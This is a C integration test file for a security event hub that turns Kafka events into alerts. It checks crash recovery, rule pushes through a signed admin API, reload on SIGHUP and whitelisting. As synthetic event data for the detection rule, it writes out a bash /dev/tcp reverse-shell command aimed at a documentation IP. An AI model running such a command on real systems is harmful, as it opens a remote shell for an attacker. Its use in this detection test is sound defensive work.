/* rampart-hub against the Kafka-protocol broker (tests/tools/kafka-mock):
 *   - events produced to rampart.events come out as the expected alerts on rampart.alerts,
 *     undecodable messages are counted and skipped;
 *   - kill -9 of the hub in the middle of a stream and a restart lose no alert (the same
 *     event redelivered keeps its alert id);
 *   - the signed admin API pushes a ruleset (a bad one is refused with file:line), SIGHUP
 *     reloads the rules directory and refuses a broken file. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <jansson.h>
#include <librdkafka/rdkafka.h>

#include "envelope.pb-c.h"
#include "rampart.pb-c.h"
#include "tests/harness/harness.h"

#define MAX_MARKS 2000 /* marker 1999 is the admin test's */

static char bootstrap[256];
static char keys_path[1024], secret[80];
static char rules_dir[1100], state_dir[1100];
static uint16_t http_port;

/* ---- Kafka helpers ------------------------------------------------------------------------ */

static rd_kafka_t *producer(void)
{
    char err[256];
    rd_kafka_conf_t *c = rd_kafka_conf_new();
    rd_kafka_conf_set(c, "bootstrap.servers", bootstrap, err, sizeof(err));
    rd_kafka_t *p = rd_kafka_new(RD_KAFKA_PRODUCER, c, err, sizeof(err));
    assert_non_null(p);
    return p;
}

/* One envelope: data_type, agent, time and "k=v" fields. */
static void send_event(rd_kafka_t *p, int dt, const char *agent, int64_t t, const char **kv,
                       size_t n)
{
    Grpc__Payload pl = GRPC__PAYLOAD__INIT;
    Grpc__Payload__FieldsEntry ent[16], *ptr[16];
    char keys[16][64];
    for (size_t i = 0; i < n; i++) {
        grpc__payload__fields_entry__init(&ent[i]);
        const char *eq = strchr(kv[i], '=');
        snprintf(keys[i], sizeof(keys[i]), "%.*s", (int)(eq - kv[i]), kv[i]);
        ent[i].key = keys[i];
        ent[i].value = (char *)eq + 1;
        ptr[i] = &ent[i];
    }
    pl.fields = ptr;
    pl.n_fields = n;
    uint8_t pbuf[4096], ebuf[4600];
    size_t plen = grpc__payload__pack(&pl, pbuf);
    Rampart__Envelope env = RAMPART__ENVELOPE__INIT;
    env.data_type = dt;
    env.agent_time = t;
    env.server_time = t;
    env.agent_id = (char *)agent;
    env.hostname = "integ-host";
    env.payload.data = pbuf;
    env.payload.len = plen;
    size_t len = rampart__envelope__pack(&env, ebuf);
    rd_kafka_resp_err_t e;
    while ((e = rd_kafka_producev(p, RD_KAFKA_V_TOPIC("rampart.events"),
                                  RD_KAFKA_V_MSGFLAGS(RD_KAFKA_MSG_F_COPY),
                                  RD_KAFKA_V_VALUE(ebuf, len), RD_KAFKA_V_KEY(agent, strlen(agent)),
                                  RD_KAFKA_V_END)) == RD_KAFKA_RESP_ERR__QUEUE_FULL)
        rd_kafka_poll(p, 10);
    assert_int_equal(e, RD_KAFKA_RESP_ERR_NO_ERROR);
}

/* A reverse shell numbered i (its port is the marker) and two benign events around it. */
static void send_attack(rd_kafka_t *p, int i)
{
    char agent[32], pid[32], argv[160], ppid[32];
    snprintf(agent, sizeof(agent), "agent-%d", i % 7);
    snprintf(pid, sizeof(pid), "pid=%d", 10000 + i);
    snprintf(ppid, sizeof(ppid), "ppid=%d", 9000 + i);
    const char *benign[] = {"exe=/usr/bin/ls", "comm=ls", "argv=ls -la /srv", pid, ppid};
    send_event(p, 59, agent, 1700000000 + i, benign, 5);
    snprintf(argv, sizeof(argv), "argv=bash -i >& /dev/tcp/203.0.113.9/%d 0>&1", 20000 + i);
    const char *attack[] = {"exe=/bin/bash", "comm=bash", argv, pid, ppid};
    send_event(p, 59, agent, 1700000000 + i, attack, 5);
    const char *dns[] = {"exe=/usr/bin/curl", "comm=curl", "query=deb.debian.org", pid};
    send_event(p, 601, agent, 1700000000 + i, dns, 4);
}

typedef struct {
    rd_kafka_t *c;
    int seen[MAX_MARKS];        /* alerts per marker */
    char id[MAX_MARKS][40];     /* the alert id of each marker */
    int total, distinct, other; /* all alerts, distinct markers, alerts of other rules */
    int id_mismatch;
    char last_other_rule[80];
} alerts_t;

static void alerts_open(alerts_t *a)
{
    memset(a, 0, sizeof(*a));
    char err[256];
    rd_kafka_conf_t *c = rd_kafka_conf_new();
    rd_kafka_conf_set(c, "bootstrap.servers", bootstrap, err, sizeof(err));
    rd_kafka_conf_set(c, "group.id", "integ-alert-reader", err, sizeof(err));
    rd_kafka_conf_set(c, "enable.auto.commit", "false", err, sizeof(err));
    a->c = rd_kafka_new(RD_KAFKA_CONSUMER, c, err, sizeof(err));
    assert_non_null(a->c);
    rd_kafka_topic_partition_list_t *l = rd_kafka_topic_partition_list_new(4);
    for (int i = 0; i < 4; i++)
        rd_kafka_topic_partition_list_add(l, "rampart.alerts", i)->offset =
            RD_KAFKA_OFFSET_BEGINNING;
    assert_int_equal(rd_kafka_assign(a->c, l), RD_KAFKA_RESP_ERR_NO_ERROR);
    rd_kafka_topic_partition_list_destroy(l);
}

static void alerts_close(alerts_t *a)
{
    rd_kafka_consumer_close(a->c);
    rd_kafka_destroy(a->c);
}

static void alerts_take(alerts_t *a, const rd_kafka_message_t *m)
{
    json_error_t je;
    json_t *j = json_loadb(m->payload, m->len, 0, &je);
    if (!j)
        fail_msg("alert is not JSON: %s: %.*s", je.text, (int)m->len, (const char *)m->payload);
    a->total++;
    const char *rule = json_string_value(json_object_get(json_object_get(j, "rule"), "id"));
    const char *id = json_string_value(json_object_get(j, "id"));
    const char *kind = json_string_value(json_object_get(j, "kind"));
    assert_non_null(rule);
    assert_non_null(id);
    assert_int_equal(strlen(id), 32);
    assert_string_equal(json_string_value(json_object_get(j, "schema")), "rampart.alert/1");
    if (strcmp(rule, "reverse_shell_dev_tcp") != 0 || strcmp(kind, "alert") != 0) {
        a->other++;
        snprintf(a->last_other_rule, sizeof(a->last_other_rule), "%s", rule);
        json_decref(j);
        return;
    }
    const char *argv = json_string_value(json_object_get(json_object_get(j, "event"), "argv"));
    assert_non_null(argv);
    const char *slash = strrchr(argv, '/');
    int port = slash ? atoi(slash + 1) : 0;
    int i = port - 20000;
    assert_true(i >= 0 && i < MAX_MARKS);
    /* every alert carries its process chain and its agent */
    json_t *chain = json_object_get(j, "process_chain");
    assert_true(json_array_size(chain) >= 1);
    assert_int_equal(json_integer_value(json_object_get(json_array_get(chain, 0), "pid")),
                     10000 + i);
    assert_non_null(json_object_get(json_object_get(j, "agent"), "id"));
    if (a->seen[i] == 0) {
        a->distinct++;
        snprintf(a->id[i], sizeof(a->id[i]), "%s", id);
    } else if (strcmp(a->id[i], id) != 0) {
        a->id_mismatch++;
    }
    a->seen[i]++;
    json_decref(j);
}

/* Reads alerts until `distinct` markers are seen or the deadline passes. */
static void alerts_wait(alerts_t *a, int distinct, int timeout_ms)
{
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (;;) {
        rd_kafka_message_t *m = rd_kafka_consumer_poll(a->c, 100);
        if (m) {
            if (!m->err)
                alerts_take(a, m);
            rd_kafka_message_destroy(m);
        }
        clock_gettime(CLOCK_MONOTONIC, &t);
        long ms = (t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000;
        if (a->distinct >= distinct || ms > timeout_ms)
            return;
    }
}

/* ---- the hub ------------------------------------------------------------------------------ */

static char sd_addr[64]; /* set: the hub registers there */

static harness_proc_t *hub_start_on(uint16_t port, const char *name)
{
    char bin[512], env[10][1200];
    harness_bin("hub/rampart-hub", bin, sizeof(bin));
    snprintf(env[0], sizeof(env[0]), "RAMPART_HUB_KAFKA_BROKERS=%s", bootstrap);
    snprintf(env[1], sizeof(env[1]), "RAMPART_HUB_HTTP_LISTEN=127.0.0.1:%u", (unsigned)port);
    snprintf(env[2], sizeof(env[2]), "RAMPART_HUB_RULES_DIR=%s", rules_dir);
    snprintf(env[3], sizeof(env[3]), "RAMPART_HUB_RULES_STATE_DIR=%s", state_dir);
    snprintf(env[4], sizeof(env[4]), "RAMPART_HUB_AUTH_KEYS_FILE=%s", keys_path);
    snprintf(env[5], sizeof(env[5]), "RAMPART_HUB_KAFKA_COMMIT_INTERVAL=1s");
    snprintf(env[6], sizeof(env[6]),
             "RAMPART_HUB_KAFKA_PROPERTIES=session.timeout.ms=3000,heartbeat.interval.ms=500");
    snprintf(env[7], sizeof(env[7]), "RAMPART_HUB_INSTANCE=%s", name);
    snprintf(env[8], sizeof(env[8]), "RAMPART_HUB_SD_ADDRS=%s", sd_addr);
    snprintf(env[9], sizeof(env[9]), "RAMPART_HUB_SD_ACCESS_KEY=hub-admin");
    char *envp[] = {
        env[0], env[1], env[2], env[3], env[4], env[5], env[6], env[7], sd_addr[0] ? env[8] : NULL,
        env[9], NULL};
    char *argv[] = {bin, NULL};
    harness_proc_t *h = harness_spawn(name, argv, envp);
    assert_non_null(h);
    assert_int_equal(harness_wait_port(port, 20000), 0);
    return h;
}

static harness_proc_t *hub_start(void)
{
    return hub_start_on(http_port, "hub");
}

/* Partitions a hub holds, from its /health. */
static int partitions(uint16_t port)
{
    char url[128];
    snprintf(url, sizeof(url), "http://127.0.0.1:%u/health", (unsigned)port);
    harness_http_response_t r;
    if (harness_http("GET", url, NULL, 0, NULL, &r) < 0)
        return -1;
    json_t *j = json_loads(r.body ? r.body : "", 0, NULL);
    int n = j ? (int)json_integer_value(json_object_get(j, "partitions")) : -1;
    json_decref(j);
    harness_http_response_free(&r);
    return n;
}

static long metric(const char *name)
{
    char url[128];
    snprintf(url, sizeof(url), "http://127.0.0.1:%u/metrics", (unsigned)http_port);
    harness_http_response_t r;
    assert_int_equal(harness_http("GET", url, NULL, 0, NULL, &r), 0);
    assert_int_equal(r.status, 200);
    const char *p = strstr(r.body, name);
    while (p && p > r.body && p[-1] != '\n')
        p = strstr(p + 1, name);
    long v = -1;
    if (p)
        v = atol(strchr(p, ' ') + 1);
    harness_http_response_free(&r);
    return v;
}

/* The default rules, copied so the test can break the directory. The source tree is found
 * from this file's own path (CMake compiles it by absolute path). */
static void copy_rules(void)
{
    char src[1024], cmd[3000];
    snprintf(src, sizeof(src), "%s", __FILE__);
    char *cut = strstr(src, "/tests/integration/");
    assert_non_null(cut);
    *cut = '\0';
    /* a fresh start: no rules or pushed state left by an earlier run */
    snprintf(cmd, sizeof(cmd), "rm -rf '%s' '%s'", rules_dir, state_dir);
    assert_int_equal(system(cmd), 0);
    mkdir(rules_dir, 0700);
    snprintf(cmd, sizeof(cmd), "cp %s/hub/rules/*.yaml %s/", src, rules_dir);
    assert_int_equal(system(cmd), 0);
}

/* ---- tests ----------------------------------------------------------------------------------- */

static void test_events_to_alerts_and_crash(void **state)
{
    (void)state;
    harness_proc_t *hub = hub_start();
    char rest[256];
    assert_int_equal(harness_wait_log(hub, "event=partitions_assigned", rest, sizeof(rest), 30000),
                     0);
    rd_kafka_t *p = producer();
    /* garbage is counted and skipped */
    for (int i = 0; i < 5; i++)
        rd_kafka_producev(p, RD_KAFKA_V_TOPIC("rampart.events"),
                          RD_KAFKA_V_VALUE((void *)"\xff\xfe not protobuf", 15), RD_KAFKA_V_END);
    for (int i = 0; i < 100; i++)
        send_attack(p, i);
    assert_int_equal(rd_kafka_flush(p, 20000), 0);

    alerts_t a;
    alerts_open(&a);
    alerts_wait(&a, 100, 60000);
    assert_int_equal(a.distinct, 100);
    assert_int_equal(a.other, 0); /* the benign events raised nothing */
    assert_int_equal(a.id_mismatch, 0);
    assert_true(harness_alive(hub));
    assert_int_equal(metric("rampart_hub_undecodable_total"), 5);

    /* a backlog of 1,400 attacks (4,200 events) produced at once; kill -9 while the hub works
     * through it, produce more while it is down, restart: nothing may be missing */
    for (int i = 100; i < 1300; i++)
        send_attack(p, i);
    assert_int_equal(rd_kafka_flush(p, 30000), 0);
    alerts_wait(&a, 300, 60000);
    harness_kill(hub);
    int at_kill = a.distinct;
    for (int i = 1300; i < 1500; i++)
        send_attack(p, i);
    assert_int_equal(rd_kafka_flush(p, 30000), 0);
    print_message("killed the hub with %d of 1500 alerts out\n", at_kill);
    assert_true(at_kill < 1300); /* it was killed in the middle of the backlog */
    hub = hub_start();
    alerts_wait(&a, 1500, 120000);
    int missing = 0;
    for (int i = 0; i < 1500; i++)
        missing += a.seen[i] == 0;
    print_message("after restart: %d distinct, %d total alerts, %d missing, %d redelivered\n",
                  a.distinct, a.total, missing, a.total - a.distinct - a.other);
    assert_int_equal(missing, 0);
    assert_int_equal(a.id_mismatch, 0); /* a redelivered event keeps its alert id */
    assert_int_equal(a.other, 0);

    /* a second instance in the group: the partitions are shared, and every event of the next
     * batch is evaluated by one of them */
    uint16_t port2 = harness_free_port();
    harness_proc_t *hub2 = hub_start_on(port2, "hub2");
    int p1 = 0, p2 = 0;
    for (int i = 0; i < 300 && !(p1 > 0 && p2 > 0 && p1 + p2 == 8); i++) {
        usleep(100000);
        p1 = partitions(http_port);
        p2 = partitions(port2);
    }
    print_message("two instances: %d + %d partitions\n", p1, p2);
    assert_true(p1 > 0 && p2 > 0);
    assert_int_equal(p1 + p2, 8);
    for (int i = 1500; i < 1600; i++)
        send_attack(p, i);
    assert_int_equal(rd_kafka_flush(p, 30000), 0);
    alerts_wait(&a, 1600, 60000);
    for (int i = 1500; i < 1600; i++)
        assert_true(a.seen[i] > 0);
    alerts_close(&a);
    rd_kafka_destroy(p);
    assert_int_equal(WEXITSTATUS(harness_stop(hub2)), 0);
    assert_int_equal(WEXITSTATUS(harness_stop(hub)), 0);
}

static void test_admin_api_and_reload(void **state)
{
    (void)state;
    /* service discovery: the hub registers itself as "hub" */
    uint16_t redis_port, sd_port = harness_free_port();
    harness_proc_t *redis = harness_redis_start(&redis_port);
    assert_non_null(redis);
    char cfg[2048], cfg_path[1200], sdbin[512];
    snprintf(cfg, sizeof(cfg),
             "http:\n  listen: 127.0.0.1:%u\nredis:\n  addr: 127.0.0.1:%u\n"
             "auth:\n  keys_file: %s\n",
             (unsigned)sd_port, (unsigned)redis_port, keys_path);
    assert_int_equal(harness_write_file("sd.yaml", cfg, cfg_path, sizeof(cfg_path)), 0);
    harness_bin("service-discovery/rampart-sd", sdbin, sizeof(sdbin));
    char *sdargv[] = {sdbin, "-c", cfg_path, NULL};
    harness_proc_t *sd = harness_spawn("sd", sdargv, NULL);
    assert_non_null(sd);
    assert_int_equal(harness_wait_port(sd_port, 15000), 0);
    snprintf(sd_addr, sizeof(sd_addr), "127.0.0.1:%u", (unsigned)sd_port);

    harness_proc_t *hub = hub_start();
    char rest[256], url[160];
    assert_int_equal(harness_wait_log(hub, "event=partitions_assigned", rest, sizeof(rest), 30000),
                     0);
    harness_http_response_t r;
    snprintf(url, sizeof(url), "http://127.0.0.1:%u/health", (unsigned)http_port);
    assert_int_equal(harness_http("GET", url, NULL, 0, NULL, &r), 0);
    assert_int_equal(r.status, 200);
    assert_non_null(strstr(r.body, "\"status\":\"ok\""));
    harness_http_response_free(&r);
    snprintf(url, sizeof(url), "http://%s/api/v1/services/hub", sd_addr);
    char want[32];
    snprintf(want, sizeof(want), "%u", (unsigned)http_port);
    bool registered = false;
    for (int i = 0; i < 100 && !registered; i++) {
        assert_int_equal(harness_http("GET", url, NULL, 0, NULL, &r), 0);
        registered = r.status == 200 && strstr(r.body, want) != NULL;
        harness_http_response_free(&r);
        if (!registered)
            usleep(100000);
    }
    assert_true(registered);
    snprintf(url, sizeof(url), "http://127.0.0.1:%u/api/v1/rules", (unsigned)http_port);
    /* unsigned: refused */
    assert_int_equal(harness_http("GET", url, NULL, 0, NULL, &r), 0);
    assert_int_equal(r.status, 401);
    harness_http_response_free(&r);
    /* a broken ruleset: 400 naming the line, nothing changes */
    const char *bad = "rules:\n  - id: integ_marker\n    name: x\n    severity: high\n"
                      "    data_type: 59\n    match: {comm: {startwith: integ}}\n";
    assert_int_equal(harness_http_signed("PUT", url, bad, strlen(bad), "hub-admin", secret, 0, &r),
                     0);
    assert_int_equal(r.status, 400);
    assert_non_null(strstr(r.body, "pushed-rules:6"));
    harness_http_response_free(&r);
    /* a good one: in force at once */
    const char *good = "rules:\n  - id: integ_marker\n    name: integration marker\n"
                       "    severity: low\n    data_type: 59\n    match: {comm: integ-marker}\n";
    assert_int_equal(
        harness_http_signed("PUT", url, good, strlen(good), "hub-admin", secret, 0, &r), 0);
    assert_int_equal(r.status, 200);
    harness_http_response_free(&r);
    assert_int_equal(harness_http_signed("GET", url, NULL, 0, "hub-admin", secret, 0, &r), 0);
    assert_int_equal(r.status, 200);
    assert_non_null(strstr(r.body, "\"integ_marker\""));
    assert_non_null(strstr(r.body, "\"reverse_shell_dev_tcp\""));
    harness_http_response_free(&r);

    alerts_t a;
    alerts_open(&a);
    a.distinct = 0;
    alerts_wait(&a, 1600, 15000); /* drain what the first test left */
    int other0 = a.other;
    rd_kafka_t *p = producer();
    const char *ev[] = {"exe=/usr/bin/integ-marker", "comm=integ-marker", "pid=77"};
    send_event(p, 59, "agent-x", 1800000000, ev, 3);
    rd_kafka_flush(p, 10000);
    for (int i = 0; i < 100 && a.other == other0; i++)
        alerts_wait(&a, 1 << 30, 100);
    assert_int_equal(a.other, other0 + 1);
    assert_string_equal(a.last_other_rule, "integ_marker");

    /* SIGHUP with a broken file in the rules directory: refused, rules stay */
    char path[1200];
    snprintf(path, sizeof(path), "%s/zz-broken.yaml", rules_dir);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs("rules:\n  - id: broken\n    name: b\n    severity: bad\n", f);
    fclose(f);
    kill(harness_pid(hub), SIGHUP);
    assert_int_equal(harness_wait_log(hub, "zz-broken.yaml:4: severity", rest, sizeof(rest), 10000),
                     0);
    send_event(p, 59, "agent-x", 1800000001, ev, 3);
    rd_kafka_flush(p, 10000);
    for (int i = 0; i < 100 && a.other == other0 + 1; i++)
        alerts_wait(&a, 1 << 30, 100);
    assert_int_equal(a.other, other0 + 2); /* the pushed rule is still in force */
    unlink(path);

    /* a pushed whitelist entry silences the rule; a reverse shell from the same agent (same
     * partition, so its alert comes after any alert of the first event) shows it was read */
    char wurl[160];
    snprintf(wurl, sizeof(wurl), "http://127.0.0.1:%u/api/v1/whitelist", (unsigned)http_port);
    const char *wl = "whitelist:\n  - id: integ_quiet\n    rules: [integ_*]\n"
                     "    match: {agent_id: agent-x}\n";
    assert_int_equal(harness_http_signed("PUT", wurl, wl, strlen(wl), "hub-admin", secret, 0, &r),
                     0);
    assert_int_equal(r.status, 200);
    assert_non_null(strstr(r.body, "integ_quiet"));
    harness_http_response_free(&r);
    send_event(p, 59, "agent-x", 1800000002, ev, 3);
    char argv[96];
    snprintf(argv, sizeof(argv), "argv=bash -i >& /dev/tcp/203.0.113.9/%d 0>&1", 20000 + 1999);
    const char *shell[] = {"exe=/bin/bash", "comm=bash", argv, "pid=11999"};
    send_event(p, 59, "agent-x", 1800000003, shell, 4);
    rd_kafka_flush(p, 10000);
    for (int i = 0; i < 100 && a.seen[1999] == 0; i++)
        alerts_wait(&a, 1 << 30, 100);
    assert_int_equal(a.seen[1999], 1);
    assert_int_equal(a.other, other0 + 2); /* nothing from integ_marker */
    alerts_close(&a);
    rd_kafka_destroy(p);
    assert_int_equal(WEXITSTATUS(harness_stop(hub)), 0);
    harness_stop(sd);
    harness_stop(redis);
}

int main(void)
{
    harness_init("hub");
    harness_proc_t *kafka = harness_kafka_start(bootstrap, sizeof(bootstrap));
    if (!kafka) {
        fprintf(stderr, "cannot start the Kafka broker\n");
        return 1;
    }
    assert_int_equal(
        harness_make_keys("hub-admin", secret, sizeof(secret), keys_path, sizeof(keys_path)), 0);
    char dir[1024];
    snprintf(dir, sizeof(dir), "%s", keys_path);
    *strrchr(dir, '/') = '\0';
    snprintf(rules_dir, sizeof(rules_dir), "%s/rules", dir);
    snprintf(state_dir, sizeof(state_dir), "%s/state", dir);
    copy_rules();
    http_port = harness_free_port();
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_events_to_alerts_and_crash),
        cmocka_unit_test(test_admin_api_and_reload),
    };
    int rc = cmocka_run_group_tests(tests, NULL, NULL);
    harness_stop(kafka);
    return rc;
}
